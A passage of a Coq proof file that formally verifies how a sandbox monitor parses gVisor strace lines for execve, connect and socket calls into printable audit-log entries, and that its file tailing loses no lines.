Lemma starts_off_GroupLit p i c l rs' rs : p c = false -> starts_off p (Group i (Seq (Lit (c :: l) :: rs')) :: rs).
Proof.
  intros Hc s rest cs (w & t & c1 & c2 & -> & -> & (w1 & w2 & c3 & c4 & -> & -> & [-> _]%matches_Lit & _)%matches_Seq & _)%accepts_Group.
  by apply stops_cons.
Qed.

Create HintDb regex.
#[local] Hint Resolve all_nonnil all_Forall stops_nil stops_all starts_off_Plus starts_off_Group arg_blank blank_arg field_blank protocol_blank : regex.

(** The side conditions of a step. *)
Ltac regex_side := first [by eauto with regex | by apply stops_cons | by apply starts_off_Lit | by apply starts_off_GroupLit | by repeat constructor].
Ltac regex_step := first [rewrite step_Lit | rewrite step_Plus; [|regex_side..] | rewrite step_Rep; [|regex_side..]].

Lemma execve_body p1 path p2 args tl rest cs :
  all arg p1 -> all arg path -> all arg p2 -> 93 ∉ args ->
  accepts [Plus arg; Plus cls_s; Group 2 (Plus arg); Lit (gs ","); Plus cls_s; Plus arg; Plus cls_s;
     Group 3 (Seq [Lit (gs "["); Rep (noneOf [just 93]); Lit (gs "]")])]
    (p1 ++ sp ++ path ++ gs "," ++ sp ++ p2 ++ sp ++ gs "[" ++ args ++ gs "]" ++ tl) rest cs <->
  cs = [(2%nat, path); (3%nat, gs "[" ++ args ++ gs "]")] /\ rest = tl.
Proof.
  intros H1 H2 H3 Ha. do 2 regex_step. rewrite step_Group; [|regex_side..].
  assert (forall c, accepts [Lit (gs ","); Plus cls_s; Plus arg; Plus cls_s; Group 3 (Seq [Lit (gs "["); Rep (noneOf [just 93]); Lit (gs "]")])]
    (gs "," ++ sp ++ p2 ++ sp ++ gs "[" ++ args ++ gs "]" ++ tl) rest c <-> c = [(3%nat, gs "[" ++ args ++ gs "]")] /\ rest = tl) as Hc;
    [|setoid_rewrite Hc; naive_solver].
  intros c. do 4 regex_step. rewrite accepts_Group.
  assert (forall w c1, matches (Seq [Lit (gs "["); Rep (noneOf [just 93]); Lit (gs "]")]) w c1 <-> accepts [Lit (gs "["); Rep (noneOf [just 93]); Lit (gs "]")] w [] c1) as Hacc.
  { intros. unfold accepts. setoid_rewrite app_nil_r. naive_solver. }
  assert (Forall (fun c => noneOf [just 93] c = true) args) as Hargs.
  { apply Forall_forall. intros d Hd. unfold noneOf, just. simpl. case_bool_decide; [subst; done|done]. }
  setoid_rewrite Hacc. setoid_rewrite accepts_nil. split.
  - intros (w & t & c1 & c2 & E & -> & Hw & -> & ->). apply accepts_Lit in Hw as (u & -> & Hw). apply accepts_Rep in Hw as (a & v & -> & Hal & Hw).
    apply accepts_Lit in Hw as (v2 & -> & [-> ->]%accepts_nil). rewrite <- !app_assoc in E. cbn [app] in E. injection E as E.
    apply (span_unique (noneOf [just 93])) in E as [-> E]; [|done|done|by apply stops_cons..]. injection E as ->. done.
  - intros [-> ->]. exists (gs "[" ++ args ++ gs "]"), tl, [], []. rewrite <- !app_assoc. repeat split; try done.
    rewrite step_Lit. rewrite step_Rep; [|regex_side..]. rewrite <- (app_nil_r (gs "]")) at 2. rewrite step_Lit. by apply accepts_nil.
Qed.

Abbreviation connectBody :=
  [Plus (noneOf [just 44]); Lit (gs ","); Plus cls_s; Plus arg; Plus cls_s; Lit (gs "{Family:"); Rep cls_s; Group 2 (Plus field); Lit (gs ",");
   Rep cls_s; Lit (gs "Addr:"); Rep cls_s; Group 3 (Plus field); Lit (gs ",");
   Rep cls_s; Lit (gs "Port:"); Rep cls_s; Group 4 (Plus field); Lit (gs "}")].

Lemma step_field i l rs x y rest cs :
  all field x -> l <> [] -> Forall (fun c => field c = false) l ->
  accepts (Group i (Plus field) :: Lit l :: rs) (x ++ l ++ y) rest cs <-> exists c, cs = (i, x) :: c /\ accepts rs y rest c.
Proof.
  intros Hx Hn Hl. destruct l as [|d l]; [done|]. apply Forall_cons in Hl as [Hd _].
  rewrite step_Group; [|regex_side..]. by setoid_rewrite step_Lit.
Qed.

Lemma connect_body fd ptr family addr port tl rest cs :
  all (noneOf [just 44]) fd -> all arg ptr -> all field family -> all field addr -> all field port ->
  accepts connectBody
    (fd ++ gs "," ++ sp ++ ptr ++ sp ++ gs "{Family:" ++ sp ++ family ++ gs "," ++ sp ++ gs "Addr:" ++ sp ++ addr ++ gs "," ++
     sp ++ gs "Port:" ++ sp ++ port ++ gs "}" ++ tl) rest cs <->
  cs = [(2%nat, family); (3%nat, addr); (4%nat, port)] /\ rest = tl.
Proof.
  intros Hfd Hptr Hf Ha Hp. do 7 regex_step. rewrite step_field by (try done; by repeat constructor).
  assert (forall c, accepts [Rep cls_s; Lit (gs "Port:"); Rep cls_s; Group 4 (Plus field); Lit (gs "}")] (sp ++ gs "Port:" ++ sp ++ port ++ gs "}" ++ tl) rest c <->
    c = [(4%nat, port)] /\ rest = tl) as H4.
  { intros c. do 3 regex_step. rewrite step_field by (try done; by repeat constructor). setoid_rewrite accepts_nil. naive_solver. }
  assert (forall c, accepts [Rep cls_s; Lit (gs "Addr:"); Rep cls_s; Group 3 (Plus field); Lit (gs ","); Rep cls_s; Lit (gs "Port:"); Rep cls_s; Group 4 (Plus field); Lit (gs "}")]
    (sp ++ gs "Addr:" ++ sp ++ addr ++ gs "," ++ sp ++ gs "Port:" ++ sp ++ port ++ gs "}" ++ tl) rest c <-> c = [(3%nat, addr); (4%nat, port)] /\ rest = tl) as H3.
  { intros c. do 3 regex_step. rewrite step_field by (try done; by repeat constructor). setoid_rewrite H4. naive_solver. }
  setoid_rewrite H3. naive_solver.
Qed.

Lemma socket_body domain typ protocol tl rest cs :
  all arg domain -> all arg typ -> all (noneOf [just 41; cls_s]) protocol ->
  accepts [Group 2 (Plus arg); Lit (gs ","); Rep cls_s; Group 3 (Plus arg); Lit (gs ","); Rep cls_s; Group 4 (Plus (noneOf [just 41; cls_s])); Lit (gs ")")]
    (domain ++ gs "," ++ sp ++ typ ++ gs "," ++ sp ++ protocol ++ gs ")" ++ tl) rest cs <->
  cs = [(2%nat, domain); (3%nat, typ); (4%nat, protocol)] /\ rest = tl.
Proof.
  intros Hd Ht Hp.
  assert (forall c, accepts [Lit (gs ","); Rep cls_s; Group 4 (Plus (noneOf [just 41; cls_s])); Lit (gs ")")] (gs "," ++ sp ++ protocol ++ gs ")" ++ tl) rest c <->
    c = [(4%nat, protocol)] /\ rest = tl) as H4.
  { intros c. do 2 regex_step. rewrite step_Group; [|regex_side..]. setoid_rewrite step_Lit. setoid_rewrite accepts_nil. naive_solver. }
  assert (forall c, accepts [Lit (gs ","); Rep cls_s; Group 3 (Plus arg); Lit (gs ","); Rep cls_s; Group 4 (Plus (noneOf [just 41; cls_s])); Lit (gs ")")]
    (gs "," ++ sp ++ typ ++ gs "," ++ sp ++ protocol ++ gs ")" ++ tl) rest c <-> c = [(3%nat, typ); (4%nat, protocol)] /\ rest = tl) as H3.
  { intros c. do 2 regex_step. rewrite step_Group; [|regex_side..]. setoid_rewrite H4. naive_solver. }
  rewrite step_Group; [|regex_side..]. setoid_rewrite H3. naive_solver.
Qed.

(** ** The report of an event *)

(** The calls that are reported, with their arguments as the sandbox prints them. *)
Inductive event : Type :=
| Execve (p1 path p2 args : gostring)
| Connect (fd ptr family addr port : gostring)
| Socket (domain typ protocol : gostring).

Definition callName (e : event) : gostring := match e with Execve _ _ _ _ => gs "execve(" | Connect _ _ _ _ _ => gs "connect(" | Socket _ _ _ => gs "socket(" end.
Definition eventText (e : event) : gostring :=
  match e with
  | Execve p1 path p2 args => p1 ++ sp ++ path ++ gs "," ++ sp ++ p2 ++ sp ++ gs "[" ++ args ++ gs "]"
  | Connect fd ptr family addr port =>
      fd ++ gs "," ++ sp ++ ptr ++ sp ++ gs "{Family:" ++ sp ++ family ++ gs "," ++ sp ++ gs "Addr:" ++ sp ++ addr ++ gs "," ++
      sp ++ gs "Port:" ++ sp ++ port ++ gs "}"
  | Socket domain typ protocol => domain ++ gs "," ++ sp ++ typ ++ gs "," ++ sp ++ protocol ++ gs ")"
  end.
Definition event_ok (e : event) : Prop :=
  match e with
  | Execve p1 path p2 args => all arg p1 /\ all arg path /\ all arg p2 /\ 93 ∉ args
  | Connect fd ptr family addr port => all (noneOf [just 44]) fd /\ all arg ptr /\ all field family /\ all field addr /\ all field port
  | Socket domain typ protocol => all arg domain /\ all arg typ /\ all (noneOf [just 41; cls_s]) protocol
  end.
Definition traceText (pre proc : gostring) (e : event) (tl : gostring) : gostring :=
  pre ++ sp ++ proc ++ gs " E " ++ callName e ++ eventText e ++ tl.

(** What the audit log says about it. *)
Definition report (proc : gostring) (e : event) : gostring :=
  match e with
  | Execve _ path _ args => proc ++ sp ++ path ++ sp ++ gs "[" ++ args ++ gs "]"
  | Connect _ _ family addr port =>
      if decide (family = gs "AF_INET6") then proc ++ gs " connected to [" ++ addr ++ gs "]:" ++ port
      else proc ++ gs " connected to " ++ addr ++ gs ":" ++ port
  | Socket domain typ protocol =>
      proc ++ gs " created socket: " ++ domain ++ sp ++ (match Split typ 124 with t :: _ => t | [] => [] end) ++ sp ++ protocol
  end.

(** The calls that are looked for before that of [e]. *)
Definition earlier (e : event) : list gostring :=
  match e with Execve _ _ _ _ => [] | Connect _ _ _ _ _ => [gs "execve("] | Socket _ _ _ => [gs "execve("; gs "connect("] end.

Definition eventCaptures (proc : gostring) (e : event) : list gostring :=
  match e with
  | Execve _ path _ args => [proc; path; gs "[" ++ args ++ gs "]"]
  | Connect _ _ family addr port => [proc; family; addr; port]
  | Socket domain typ protocol => [proc; domain; typ; protocol]
  end.
Definition regexOf (e : event) : regex := match e with Execve _ _ _ _ => execveRegex | Connect _ _ _ _ _ => connectRegex | Socket _ _ _ => socketRegex end.
Definition groupsOf (e : event) : nat := match e with Execve _ _ _ _ => 3 | _ => 4 end.

Lemma event_submatch pre proc e tl :
  event_ok e -> all word proc -> Contains (pre ++ sp ++ proc) (callName e) = false ->
  exists w, FindStringSubmatch (groupsOf e) (regexOf e) (traceText pre proc e tl) = Some (w :: eventCaptures proc e).
Proof.
  intros Hok [Hnp Hproc] Hc. assert (~ within (pre ++ sp ++ proc) (callName e)) as Hno by (rewrite <- Contains_within; congruence).
  assert (Forall dark proc) as Hdark by (eapply Forall_impl; [exact Hproc|]; intros c; apply word_not_blank).
  unfold traceText, FindStringSubmatch.
  destruct e as [p1 path p2 args|fd ptr family addr port|domain typ protocol]; cbn [callName eventText event_ok regexOf groupsOf eventCaptures] in *.
  - destruct Hok as (H1 & H2 & H3 & H4). rewrite <- !app_assoc. unfold execveRegex.
    edestruct event_found as (a & w & b & ->);
      [| | |exact Hdark|exact Hnp|exact Hno|eexists; by apply execve_body|intros rest cs H; by apply execve_body in H as [-> _]|by eexists];
      try done. by repeat constructor.
  - destruct Hok as (H1 & H2 & H3 & H4 & H5). rewrite <- !app_assoc. unfold connectRegex.
    edestruct event_found as (a & w & b & ->);
      [| | |exact Hdark|exact Hnp|exact Hno|eexists; by apply connect_body|intros rest cs H; by apply connect_body in H as [-> _]|by eexists];
      try done. by repeat constructor.
  - destruct Hok as (H1 & H2 & H3). rewrite <- !app_assoc. unfold socketRegex.
    edestruct event_found as (a & w & b & ->);
      [| | |exact Hdark|exact Hnp|exact Hno|eexists; by apply socket_body|intros rest cs H; by apply socket_body in H as [-> _]|by eexists];
      try done. by repeat constructor.
Qed.

(** C38: A trace line of an executed program, a connection or a socket is reported with
    the process and the arguments of the call, wherever in the line the call stands and
    whatever follows it, provided that the line has no terminal escapes or control
    characters to clean, that the process is a word, that the fields have the shape the
    patterns expect ([event_ok]: no closing bracket in the arguments of an execve, no comma
    in a descriptor, no comma or white space in paths, pointers, domains and types, no
    comma, white space or closing brace in the fields of an address, no closing
    parenthesis or white space in a protocol), that the call is not named before it in the line, and that the line
    names no call that is looked for earlier (execve before connect before socket).
    [execve_args_hidden] shows what a bracket in an argument does. *)
Theorem formatStraceLine_reports pre proc e tl :
  cleanLogLine (traceText pre proc e tl) = traceText pre proc e tl -> event_ok e -> all word proc ->
  Contains (pre ++ sp ++ proc) (callName e) = false ->
  Forall (fun call => Contains (traceText pre proc e tl) call = false) (earlier e) ->
  formatStraceLine (traceText pre proc e tl) = Ret (report proc e).
Proof.
  intros Hclean Hok Hproc Hno Hbefore. unfold formatStraceLine. rewrite Hclean. destruct (event_submatch pre proc e tl Hok Hproc Hno) as [w Hw].
  assert (forall n call body, Contains (traceText pre proc e tl) call = false -> FindStringSubmatch n (eventRegex call body) (traceText pre proc e tl) = None) as Habs.
  { intros n call body Hc. apply event_absent. rewrite <- Contains_within. congruence. }
  destruct e as [p1 path p2 args|fd ptr family addr port|domain typ protocol]; cbn [groupsOf regexOf eventCaptures earlier report] in *.
  - by rewrite Hw.
  - apply Forall_cons in Hbefore as [H1 _]. unfold execveRegex. rewrite (Habs _ _ _ H1), Hw. by case_decide.
  - apply Forall_cons in Hbefore as [H1 H2]. apply Forall_cons in H2 as [H2 _]. unfold execveRegex. rewrite (Habs _ _ _ H1).
    unfold connectRegex. by rewrite (Habs _ _ _ H2), Hw.
Qed.

(** ** What reaches the audit log *)

Lemma matches_captures P r w cs : matches r w cs -> Forall P w -> Forall (fun c : nat * list Z => Forall P c.2) cs.
Proof.
  induction 1 as [| |r1 r2 w1 w2 c1 c2 _ IH1 _ IH2| | |i r w c _ IH|]; intros Hw; auto.
  apply Forall_app in Hw as [? ?]. apply Forall_app. auto.
Qed.

Lemma submatch_Forall P n r s m : FindStringSubmatch n r s = Some m -> Forall P s -> Forall (Forall P) m /\ length m = S n.
Proof.
  unfold FindStringSubmatch. destruct (find r s) as [[a [[w b] cs]]|] eqn:E; [|done]. apply find_Some in E as [-> Hm]. intros [= <-].
  rewrite !Forall_app. intros (_ & Hw & _). split; [|simpl; by rewrite length_map, length_seq]. constructor; [done|].
  pose proof (matches_captures P _ _ _ Hm Hw) as Hcs. apply Forall_map, Forall_true. intros i. unfold group.
  destruct (List.find _ cs) as [c|] eqn:Ef; [|constructor]. apply List.find_some in Ef as [Hin _]. rewrite Forall_forall in Hcs.
  apply (Hcs c). by apply list_elem_of_In.
Qed.

Lemma Split_Forall (P : Z -> Prop) s sep : Forall P s -> Forall (Forall P) (Split s sep).
Proof.
  induction 1 as [|c s Hc Hs IH]; simpl; [by repeat constructor|]. case_decide; [by constructor|].
  destruct (Split s sep) as [|h t]; [by repeat constructor|]. apply Forall_cons in IH as [? ?]. by repeat constructor.
Qed.

Lemma Index_bound s sub i : Index s sub = Some i -> 0 <= i /\ i + len sub <= len s.
Proof.
  revert i. induction s as [|c s IH]; intros i; cbn [Index].
  - destruct (HasPrefix [] sub) eqn:E; [|done]. intros [= <-]. apply HasPrefix_true in E as [t E]. apply (f_equal len) in E. len_solve.
  - destruct (HasPrefix (c :: s) sub) eqn:E.
    + intros [= <-]. apply HasPrefix_true in E as [t E]. apply (f_equal len) in E. rewrite E, len_app. pose proof (len_nonneg t). lia.
    + destruct (Index s sub) as [j|]; [|done]. intros [= <-]. destruct (IH j eq_refl). len_solve.
Qed.

(** A slice up to the end exists and is part of the text. *)
Lemma slice_to_end P s i : 0 <= i <= len s -> Forall P s -> exists t, slice s i (len s) = Ret t /\ Forall P t.
Proof. intros Hi Hs. rewrite slice_Ret by lia. eexists. split; [done|]. by apply Forall_take, Forall_drop. Qed.

Lemma gs_printable : forall s, forallb (fun c => bool_decide (32 <= c <= 126)) (gs s) = true -> Forall printable (gs s).
Proof. intros s H. apply List.Forall_forall. intros c Hc. rewrite forallb_forall in H. specialize (H c Hc). by apply bool_decide_eq_true in H. Qed.

Ltac printable_solve := repeat (apply Forall_app_2); first [done | by apply gs_printable | by apply Forall_true].

Lemma formatStraceLine_printable line : exists out, formatStraceLine line = Ret out /\ Forall printable out.
Proof.
  unfold formatStraceLine. pose proof (cleaned_printable line) as Hc. set (cl := cleanLogLine line) in *. clearbody cl.
  assert (Forall printable sp) as Hsp by by apply gs_printable.
  destruct (FindStringSubmatch 3 execveRegex cl) as [m|] eqn:E1.
  { apply (submatch_Forall printable) in E1 as [Hm Hl]; [|done]. destruct m as [|m0 [|m1 [|m2 [|m3 [|]]]]]; try done.
    rewrite !Forall_cons in Hm. destruct Hm as (_ & ? & ? & ? & _). eexists. split; [done|]. printable_solve. }
  clear E1. destruct (FindStringSubmatch 4 connectRegex cl) as [m|] eqn:E2.
  { apply (submatch_Forall printable) in E2 as [Hm Hl]; [|done]. destruct m as [|m0 [|m1 [|m2 [|m3 [|m4 [|]]]]]]; try done.
    rewrite !Forall_cons in Hm. destruct Hm as (_ & ? & ? & ? & ? & _). case_decide; (eexists; split; [done|]; printable_solve). }
  clear E2. destruct (FindStringSubmatch 4 socketRegex cl) as [m|] eqn:E3.
  { apply (submatch_Forall printable) in E3 as [Hm Hl]; [|done]. destruct m as [|m0 [|m1 [|m2 [|m3 [|m4 [|]]]]]]; try done.
    rewrite !Forall_cons in Hm. destruct Hm as (_ & ? & ? & H3 & ? & _). eexists; split; [done|].
    assert (Forall printable (match Split m3 124 with t :: _ => t | [] => [] end)).
    { apply (Split_Forall _ _ 124) in H3. destruct (Split m3 124); [constructor|]. by apply Forall_cons in H3 as [? _]. }
    printable_solve. }
  clear E3. destruct (Index cl (gs "strace.go:")) as [idx|] eqn:E4; [|eauto]. apply Index_bound in E4 as [H1 H2].
  destruct (slice_to_end printable cl idx) as (sub & -> & Hsub); [change (len (gs "strace.go:")) with 10 in H2; lia|done|]. rewrite bind_Ret.
  destruct (Index sub (gs "] ")) as [endIdx|] eqn:E5; [|eauto]. apply Index_bound in E5 as [H3 H4]. apply slice_to_end; [|done].
  change (len (gs "] ")) with 2 in H4. lia.
Qed.

(** The entries that a trace line can cause. *)
Definition safe_entry (ip : gostring) (c : call) : Prop := exists text, c = CallCommand ip text /\ Forall printable text.

Lemma traceLine_safe ip line : exists cs, traceLine ip line = Ret cs /\ Forall (safe_entry ip) cs.
Proof.
  unfold traceLine. case_decide; [by exists []|]. destruct (MatchString _ _); [|by exists []].
  destruct (formatStraceLine_printable (TrimSpace line)) as (out & -> & Hout). rewrite bind_Ret. eexists. split; [done|].
  repeat constructor. by exists out.
Qed.

Lemma traceLines_safe ip lines : exists cs, traceLines ip lines = Ret cs /\ Forall (safe_entry ip) cs.
Proof.
  induction lines as [|l lines (cs & IH & Hcs)]; cbn [traceLines]; [by exists []|]. destruct (traceLine_safe ip l) as (c1 & -> & H1).
  rewrite bind_Ret, IH, bind_Ret. eexists. split; [done|]. by apply Forall_app.
Qed.

(** Whatever a sandbox writes to its trace files, and however its writes interleave
    with the reader, tailing them never panics, and every entry it makes in the audit
    log is a command of that sandbox in printable characters. *)
Theorem startTailing_safe ip content evs : exists cs, startTailing ip content evs = Ret cs /\ Forall (safe_entry ip) cs.
Proof. apply traceLines_safe. Qed.

(** ** Tailing *)

Definition written (evs : list tailEvent) : bytes := flat_map (fun e => match e with Append d => d | Poll => [] end) evs.

Lemma take_len_S (a b : bytes) c : take (Z.to_nat (len a + 1)) (a ++ c :: b) = a ++ [c] /\ drop (Z.to_nat (len a + 1)) (a ++ c :: b) = b.
Proof.
  replace (Z.to_nat (len a + 1)) with (length (a ++ [c])) by len_solve. replace (a ++ c :: b) with ((a ++ [c]) ++ b) by (by rewrite <- app_assoc).
  by rewrite take_app_length, drop_app_length.
Qed.

(** A round delivers the next complete line, or keeps what there is. *)
Lemma tailRead_spec t line t' :
  tailRead t = (line, t') -> 10 ∉ tl_partial t ->
  (10 ∉ tl_partial t') /\
  match line with
  | Some l => exists k, l = k ++ [10] /\ (10 ∉ k) /\ tl_partial t ++ tl_unread t = l ++ tl_partial t' ++ tl_unread t'
  | None => tl_partial t' = tl_partial t ++ tl_unread t /\ tl_unread t' = []
  end.
Proof.
  unfold tailRead. intros H Hp. destruct (IndexByte (tl_unread t) 10) as [i|] eqn:E.
  - apply Index_byte_Some in E as (a & b & Eu & Ha & ->). rewrite Eu in H. destruct (take_len_S a b 10) as [E1 E2]. rewrite E1, E2, Eu in *. clear E1 E2.
    case_decide as Hd; simplify_eq; cbn [tl_partial tl_unread].
    + split; [apply not_elem_of_nil|]. exists (tl_partial t ++ a). rewrite <- !app_assoc. repeat split; try done. by apply not_elem_of_app.
    + assert (tl_partial t = []) as -> by (destruct (tl_partial t); [done|]; exfalso; apply Hd; len_solve).
      split; [apply not_elem_of_nil|]. exists a. by rewrite <- !app_assoc.
  - apply Index_byte_None in E. simplify_eq. cbn [tl_partial tl_unread]. case_decide as Hd; [by rewrite not_elem_of_app|].
    assert (tl_unread t = []) as -> by (destruct (tl_unread t); [done|]; exfalso; apply Hd; len_solve). by rewrite app_nil_r.
Qed.

Lemma tailRun_lines evs : forall t lines t',
  tailRun t evs = (lines, t') -> 10 ∉ tl_partial t ->
  exists ls, lines = map (fun l => l ++ [10]) ls /\ (10 ∉ tl_partial t') /\
    Split (tl_partial t ++ tl_unread t ++ written evs) 10 = ls ++ Split (tl_partial t' ++ tl_unread t') 10.
Proof.
  induction evs as [|[d|] evs IH]; intros t lines t' H Hp; cbn [tailRun] in H.
  - simplify_eq. exists []. unfold written. simpl. by rewrite app_nil_r.
  - destruct (IH _ _ _ H Hp) as (ls & -> & Hp' & E). exists ls. repeat split; [done|]. cbn [tl_unread tl_partial] in E.
    unfold written in *. cbn [flat_map]. by rewrite <- app_assoc in E.
  - destruct (tailRead t) as [line t1] eqn:E1. destruct (tailRun t1 evs) as [ls1 t2] eqn:E2. simplify_eq.
    apply tailRead_spec in E1 as [Hp1 E1]; [|done]. destruct (IH _ _ _ E2 Hp1) as (ls & -> & Hp' & E).
    assert (written (Poll :: evs) = written evs) as -> by done. destruct line as [l|].
    + destruct E1 as (k & -> & Hk & E1). exists (k :: ls). repeat split; [done|]. rewrite app_assoc, E1, <- !app_assoc. simpl app.
      rewrite Split_app by done. simpl. by rewrite E.
    + destruct E1 as [E1 E3]. exists ls. repeat split; [done|]. rewrite E1, E3 in E. rewrite app_assoc. exact E.
Qed.

Lemma tailRun_app e1 e2 : forall t, tailRun t (e1 ++ e2) = let '(l1, t1) := tailRun t e1 in let '(l2, t2) := tailRun t1 e2 in (l1 ++ l2, t2).
Proof.
  induction e1 as [|[d|] e1 IH]; intros t; cbn [tailRun app]; [by destruct (tailRun t e2)|by rewrite IH|].
  destruct (tailRead t) as [line t1]. rewrite IH. destruct (tailRun t1 e1) as [l1 t2]. destruct (tailRun t2 e2) as [l2 t3]. by destruct line.
Qed.

Lemma tailRead_drains t : length (Split (tl_unread (tailRead t).2) 10) = Nat.max 1 (length (Split (tl_unread t) 10) - 1) /\
  (length (Split (tl_unread t) 10) = 1%nat -> tl_unread (tailRead t).2 = []).
Proof.
  unfold tailRead. destruct (IndexByte (tl_unread t) 10) as [i|] eqn:E.
  - apply Index_byte_Some in E as (a & b & -> & Ha & ->). destruct (take_len_S a b 10) as [-> ->]. rewrite Split_app by done.
    pose proof (Split_nonnil b 10). case_decide; cbn [snd tl_unread length]; destruct (Split b 10); simpl; split; try done; lia.
  - apply Index_byte_None in E. rewrite (Split_one _ _ E). cbn [snd tl_unread]. done.
Qed.

Lemma polls_drain n : forall t, (length (Split (tl_unread t) 10) <= n)%nat -> tl_unread (tailRun t (replicate n Poll)).2 = [].
Proof.
  assert (forall k t, tl_unread t = [] -> tl_unread (tailRun t (replicate k Poll)).2 = []) as Hstay.
  { induction k as [|k IH]; intros t Ht; [done|]. cbn [replicate tailRun]. destruct (tailRead t) as [line t1] eqn:E.
    assert (tl_unread t1 = []) as H1 by (unfold tailRead in E; rewrite Ht in E; simpl in E; by simplify_eq).
    specialize (IH t1 H1). by destruct (tailRun t1 (replicate k Poll)). }
  induction n as [|n IH]; intros t Ht; [pose proof (Split_nonnil (tl_unread t) 10); destruct (Split (tl_unread t) 10); simpl in *; [done|lia]|].
  cbn [replicate tailRun]. pose proof (tailRead_drains t) as [H1 H2]. destruct (tailRead t) as [line t1]. cbn [snd] in *.
  destruct (decide (length (Split (tl_unread t) 10) = 1%nat)) as [Hone|Hone].
  - specialize (Hstay n t1 (H2 Hone)). by destruct (tailRun t1 (replicate n Poll)).
  - assert (length (Split (tl_unread t1) 10) <= n)%nat as Hle by (destruct (Split (tl_unread t) 10) eqn:E; [by apply Split_nonnil in E|simpl in *; lia]).
    specialize (IH t1 Hle). by destruct (tailRun t1 (replicate n Poll)).
Qed.

Lemma Split_length_app a b : 10 ∉ a -> length (Split (a ++ b) 10) = length (Split b 10).
Proof.
  induction a as [|c a IH]; intros Ha; [done|]. apply not_elem_of_cons in Ha as [Hc Ha]. simpl. rewrite decide_False by done.
  rewrite <- (IH Ha). pose proof (Split_nonnil (a ++ b) 10). by destruct (Split (a ++ b) 10).
Qed.

Lemma written_polls n : written (replicate n Poll) = [].
Proof. unfold written. by induction n. Qed.

(** C39: Tailing loses and splits nothing: however the writes of the sandbox and the polls
    of the reader interleave, once the reader has polled often enough after the last
    write, the lines it has delivered are exactly the complete lines of the file, in
    order, and the unfinished rest is kept for the next write. *)
Theorem tailing_complete content evs n :
  (length (Split (content ++ written evs) 10) <= n)%nat ->
  exists ls rest, tailRun {| tl_unread := content; tl_partial := [] |} (evs ++ replicate n Poll) =
      (map (fun l => l ++ [10]) ls, {| tl_unread := []; tl_partial := rest |}) /\
    Split (content ++ written evs) 10 = ls ++ [rest].
Proof.
  intros Hn. rewrite tailRun_app. set (t0 := {| tl_unread := content; tl_partial := [] |}).
  destruct (tailRun t0 evs) as [l1 t1] eqn:E1. destruct (tailRun_lines _ _ _ _ E1) as (ls1 & -> & Hp1 & S1); [apply not_elem_of_nil|].
  destruct (tailRun t1 (replicate n Poll)) as [l2 t2] eqn:E2. destruct (tailRun_lines _ _ _ _ E2 Hp1) as (ls2 & -> & Hp2 & S2).
  cbn [t0 tl_partial tl_unread app] in S1. rewrite written_polls, app_nil_r in S2. rewrite S1 in Hn.
  pose proof (polls_drain n t1) as Hu. rewrite E2 in Hu. cbn [snd] in Hu. rewrite length_app, Split_length_app in Hn by done.
  specialize (Hu ltac:(lia)). destruct t2 as [u2 p2]. cbn [tl_unread tl_partial] in *. subst u2. rewrite app_nil_r, (Split_one p2) in S2 by done.
  exists (ls1 ++ ls2), p2. split; [by rewrite map_app|]. by rewrite S1, S2, app_assoc.
Qed.

(** A round starts the files that are new. *)
Lemma tailNew_fold fs : forall (T1 T' : gset gostring) (st1 st' : list gostring),
  foldl (fun '(tl, st) f => if decide (f ∈ tl) then (tl, st) else ({[f]} ∪ tl, st ++ [f])) (T1, st1) fs = (T', st') ->
  (forall x, x ∈ st1 -> x ∈ T1) -> NoDup st1 ->
  NoDup st' /\ (forall x, x ∈ T' <-> x ∈ T1 \/ x ∈ fs) /\ (forall x, x ∈ st' <-> x ∈ st1 \/ (x ∈ T' /\ (x ∉ T1))).
Proof.
  induction fs as [|f fs IH]; intros T1 T' st1 st' H Hs Hnd; cbn [foldl] in H.
  - simplify_eq. split; [done|]. split; intros x; [rewrite elem_of_nil|]; tauto.
  - destruct (decide (f ∈ T1)) as [Hin|Hin].
    + destruct (IH _ _ _ _ H Hs Hnd) as (H1 & H2 & H3). split; [done|]. split; [|done]. intros x. rewrite H2, elem_of_cons. naive_solver.
    + destruct (IH _ _ _ _ H) as (H1 & H2 & H3).
      * intros x. rewrite elem_of_app, list_elem_of_singleton, elem_of_union, elem_of_singleton. naive_solver.
      * apply NoDup_app. split; [done|]. split; [|by apply NoDup_singleton]. intros x Hx. rewrite list_elem_of_singleton. naive_solver.
      * split; [done|]. split; intros x; [rewrite H2, elem_of_cons, elem_of_union, elem_of_singleton; tauto|].
        rewrite H3, H2, elem_of_app, list_elem_of_singleton, elem_of_union, elem_of_singleton. destruct (decide (x = f)) as [->|]; tauto.
Qed.

Lemma tailNew_spec tailed files tailed' started :
  tailNew tailed files = (tailed', started) ->
  NoDup started /\ (forall x, x ∈ tailed' <-> x ∈ tailed \/ x ∈ default [] files) /\ (forall x, x ∈ started <-> x ∈ tailed' /\ (x ∉ tailed)).
Proof.
  destruct files as [files|]; cbn [tailNew default].
  - intros H. destruct (tailNew_fold files _ _ _ _ H) as (H1 & H2 & H3); [by intros x ?%not_elem_of_nil|constructor|].
    split; [done|]. split; [done|]. intros x. rewrite H3, elem_of_nil. tauto.
  - intros [= <- <-]. split; [constructor|]. split; intros x; rewrite elem_of_nil; tauto.
Qed.

Lemma streamGvisorLogs_spec rounds : forall tailed tailed' started,
  streamGvisorLogs tailed rounds = (tailed', started) ->
  NoDup started /\ (forall x, x ∈ tailed' <-> x ∈ tailed \/ exists files, Some files ∈ rounds /\ x ∈ files) /\
  (forall x, x ∈ started <-> x ∈ tailed' /\ (x ∉ tailed)).
Proof.
  induction rounds as [|files rounds IH]; intros tailed tailed' started; cbn [streamGvisorLogs].
  - intros [= <- <-]. split; [constructor|]. split; intros x; [|rewrite elem_of_nil; tauto]. split; [tauto|].
    intros [?|(fs & Hin%not_elem_of_nil & _)]; done.
  - destruct (tailNew tailed files) as [t1 s1] eqn:E1. destruct (streamGvisorLogs t1 rounds) as [t2 s2] eqn:E2. intros [= <- <-].
    apply tailNew_spec in E1 as (H1 & H2 & H3). apply IH in E2 as (H4 & H5 & H6).
    assert (forall x, x ∈ default [] files <-> exists fs, files = Some fs /\ x ∈ fs) as Hf.
    { intros x. destruct files; simpl; [naive_solver|]. rewrite elem_of_nil. naive_solver. }
    split; [|split].
    + apply NoDup_app. split; [done|]. split; [|done]. intros x. rewrite H3, H6. tauto.
    + intros x. rewrite H5, H2, Hf. setoid_rewrite elem_of_cons. naive_solver.
    + intros x. rewrite elem_of_app, H3, H6, H5. assert (x ∈ tailed -> x ∈ t1) by (rewrite H2; tauto).
      destruct (decide (x ∈ t1)); tauto.
Qed.

(** The files of a sandbox are tailed once each, from the round in which they are first
    listed, and none that was listed is missed. *)
